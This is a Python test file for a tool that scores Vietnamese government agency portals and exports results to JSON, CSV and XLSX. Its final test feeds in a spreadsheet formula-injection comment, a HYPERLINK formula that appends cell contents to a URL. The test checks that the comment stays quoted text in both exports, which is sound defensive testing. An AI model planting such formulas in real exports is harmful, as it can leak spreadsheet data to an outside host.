"""Score from stored observations and export: the JSON contract of DESIGN.md, CSV and XLSX rows."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from inspector.model.checklist import load_all
from inspector.records.workspace import Workspace
from inspector.records.observations import put as put_observation
from tests.cli import invoke

DATA = Path(__file__).parent / "data"
AS_OF = "2026-11-30"


@pytest.fixture()
def scored(tmp_path: Path) -> Path:
    ws_dir = tmp_path / "ws"
    invoke("registry", "import", "-w", str(ws_dir), str(DATA / "register.yaml"))
    ws = Workspace(ws_dir)
    # What a crawl would have stored: news every month of the year, a complete contact page,
    # a hotline, and a portal that timed out on the legal documents section.
    news = [{"url": f"http://127.0.0.1:8101/tin-tuc/{m}", "title": f"Tin hoạt động tháng {m}",
             "published": f"2026-{m:02d}-15"} for m in range(1, 12)]
    news.append({"url": "http://127.0.0.1:8101/tin-tuc/12", "title": "Tin tháng 12",
                 "published": "2025-12-20"})
    put_observation(ws, "so-tttt", "posts/tin-tuc-su-kien", {
        "section": {"found": True, "own": True, "how": "register",
                    "urls": ["http://127.0.0.1:8101/tin-tuc"]},
        "posts": news,
        "evidence": [{"kind": "screenshot", "path": "screenshots/ab12.png", "sha256": "ab12"}]})
    put_observation(ws, "so-tttt", "fields/lien-he",
                       {"present": ["dia_chi", "dien_thoai", "email"], "url": "http://x/lien-he"})
    put_observation(ws, "so-tttt", "feature/hotline", {"present": True})
    put_observation(ws, "so-tttt", "posts/van-ban-qppl", status="failed",
                       reason="timeout: http://127.0.0.1:8101/van-ban did not answer in 30 s")
    ws.close()
    invoke("score", "-w", str(ws_dir), "--as-of", AS_OF)
    return ws_dir


def test_json_export_follows_the_contract(scored: Path):
    doc = json.loads(invoke("export", "-w", str(scored), "--format", "json"))
    assert doc["schema"] == "inspector-results/1"
    assert doc["as_of"] == AS_OF
    assert doc["window"] == {"start": "2025-12-01", "end": "2026-11-30"}
    agencies = {a["id"]: a for a in doc["agencies"]}
    assert set(agencies) == {"so-tttt", "huyen-cho-moi", "xa-kien-an"}
    sotttt = agencies["so-tttt"]
    assert sotttt["level"] == "province"
    assert [c["id"] for c in sotttt["categories"]] == ["1B/I", "1B/II", "1B/III", "1B/IV",
                                                        "1B/V", "1B/VI"]
    criteria = {c["id"]: c for c in sotttt["criteria"]}
    news = criteria["1B/III/2"]
    # 12 of 12 months hold news: full 5 points, and the 12 counted posts are listed.
    assert (news["points"], news["max_points"], news["status"]) == (5, 5, "auto")
    assert len(news["metrics"]["posts"]) == 12
    assert {"url", "title", "published"} <= set(news["metrics"]["posts"][0])
    assert news["evidence"] == [{"kind": "screenshot", "path": "screenshots/ab12.png",
                                 "sha256": "ab12"}]
    # Contact data lacks the fax: "có cung cấp nhưng không cập nhật" 0,5 of 5.
    assert criteria["1B/III/10"]["points"] == 0.5
    assert criteria["1B/III/10"]["metrics"]["fields_missing"] == ["fax"]
    assert criteria["1B/III/12"]["points"] == 5
    # The section that timed out is not assessed, with its reason, never 0.
    legal = criteria["1B/III/6.1"]
    assert legal["status"] == "not_assessed" and legal["points"] is None
    assert "timeout" in legal["reason"]
    # Nothing observed yet for the rest: not assessed, and the category has no rating.
    portal = next(c for c in sotttt["categories"] if c["id"] == "1B/III")
    assert portal["rating"] is None and portal["complete"] is False
    assert "1B/III/6.1" in portal["missing"]
    assert portal["points"] == pytest.approx((5 + 0.5 + 5) * 100 / 96, abs=1e-3)
    # 1B/IV/1: the register declares the TTHC total and the services per level: 20 points.
    assert criteria["1B/IV/1"]["points"] == 20
    services = {s["name"]: s for s in sotttt["services"]}
    assert services["Cấp giấy phép xuất bản bản tin"]["catalog_code"] == "1.004194"
    assert services["Cấp giấy phép xuất bản bản tin"]["declared_level"] == 3
    assert services["Cấp phép hoạt động in"]["recognised"] is None
    district = agencies["huyen-cho-moi"]
    assert district["overall"]["level"] is None
    assert "2B/I/I (Hạ tầng)" in district["overall"]["missing"]
    # no report imported: the department's total waits for every category (1000 points)
    total = sotttt["overall"]["total"]
    assert total["points"] is None and total["max_points"] == 1000
    assert total["missing"] == ["1B/I", "1B/II", "1B/III", "1B/IV", "1B/V", "1B/VI"]


def test_rescoring_the_same_captures_gives_the_same_export(scored: Path):
    first = invoke("export", "-w", str(scored))
    invoke("score", "-w", str(scored), "--as-of", AS_OF)
    assert invoke("export", "-w", str(scored)) == first


def test_csv_and_xlsx_have_one_row_per_agency_and_criterion(scored: Path, tmp_path: Path):
    per_level = {}
    for checklist in load_all():
        per_level[checklist.level] = per_level.get(checklist.level, 0) + len(checklist.criteria)
    expected = per_level["province"] + per_level["district"] + per_level["commune"]
    rows = list(csv.DictReader(io.StringIO(invoke("export", "-w", str(scored), "--format", "csv"))))
    assert len(rows) == expected
    assert len({(r["agency_id"], r["criterion_id"]) for r in rows}) == expected
    news = next(r for r in rows if r["criterion_id"] == "1B/III/2")
    assert (news["points"], news["posts_counted"], news["status"]) == ("5.0", "12", "auto")
    out = tmp_path / "ket-qua.xlsx"
    invoke("export", "-w", str(scored), "--format", "xlsx", "-o", str(out))
    book = load_workbook(out, read_only=True)
    sheet = list(book["findings"].iter_rows(values_only=True))
    header, headings, data = sheet[0], sheet[1], sheet[2:]
    assert headings[header.index("points")] == "Điểm"
    assert len(data) == expected
    record = dict(zip(header, next(r for r in data if r[header.index("criterion_id")] == "1B/III/10")))
    assert record["points"] == 0.5 and record["max_points"] == 5 and record["agency_id"] == "so-tttt"
    assert {r[1] for r in list(book["categories"].iter_rows(values_only=True))[1:]} == \
        {"so-tttt", "huyen-cho-moi", "xa-kien-an"}


def test_export_before_scoring_is_a_clean_error(tmp_path: Path):
    invoke("registry", "import", "-w", str(tmp_path / "new"), str(DATA / "register.yaml"))
    output = invoke("export", "-w", str(tmp_path / "new"), code=1)
    assert output.strip() == "Lỗi: chưa có kết quả chấm điểm: hãy chạy 'inspector score' trước"


def test_export_of_some_agencies(scored: Path):
    doc = json.loads(invoke("export", "-w", str(scored), "--agency", "so-tttt"))
    assert [a["id"] for a in doc["agencies"]] == ["so-tttt"]
    rows = invoke("export", "-w", str(scored), "--format", "csv", "--agency", "xa-kien-an",
                  "--agency", "so-tttt").splitlines()[1:]
    assert {row.split(",")[1] for row in rows} == {"so-tttt", "xa-kien-an"}
    output = invoke("export", "-w", str(scored), "--agency", "so-khong-co", code=1)
    assert "không có cơ quan 'so-khong-co'" in output


def test_score_unknown_agency_is_a_clean_error(scored: Path):
    output = invoke("score", "-w", str(scored), "--agency", "so-khong-co", code=1)
    assert "không có cơ quan 'so-khong-co'" in output


HOSTILE_COMMENT = '=HYPERLINK("http://127.0.0.1:9/x?"&B2,"Xem")'


def test_a_comment_that_looks_like_a_formula_is_text_in_both_exports(scored: Path,
                                                                        tmp_path: Path):
    """OWASP's CSV injection: an agency's dispute comment beginning with "=" reaches the
    province's staff as the text it is, in the CSV and in the XLSX; numbers stay numbers."""
    from inspector.review.overrides import respond

    ws = Workspace(scored)
    respond(ws, "so-tttt", "1B/III/2", "disputed", HOSTILE_COMMENT, "cb-so-tttt")
    respond(ws, "so-tttt", "1B/III/10", "disputed", "-1 tin bị tính thừa\r", "cb-so-tttt")
    ws.close()
    rows = list(csv.DictReader(io.StringIO(invoke("export", "-w", str(scored), "--format",
                                                  "csv"))))
    comments = {r["criterion_id"]: r["agency_comment"] for r in rows if r["agency_comment"]}
    assert comments == {"1B/III/2": "'" + HOSTILE_COMMENT, "1B/III/10": "'-1 tin bị tính thừa"}
    news = next(r for r in rows if r["criterion_id"] == "1B/III/2")
    assert news["points"] == "5.0"
    out = tmp_path / "ket-qua.xlsx"
    invoke("export", "-w", str(scored), "--format", "xlsx", "-o", str(out))
    sheet = load_workbook(out)["findings"]
    header = [c.value for c in sheet[1]]
    column = header.index("agency_comment") + 1
    cells = {sheet.cell(row, header.index("criterion_id") + 1).value: sheet.cell(row, column)
             for row in range(3, sheet.max_row + 1)}
    hostile = cells["1B/III/2"]
    assert (hostile.value, hostile.data_type, hostile.quotePrefix) == (HOSTILE_COMMENT, "s", True)
    assert cells["1B/III/10"].data_type == "s"
    points = sheet.cell(next(r for r in range(3, sheet.max_row + 1) if sheet.cell(
        r, header.index("criterion_id") + 1).value == "1B/III/2"), header.index("points") + 1)
    assert points.data_type == "n" and points.value == 5
    # nothing in the file is a formula
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
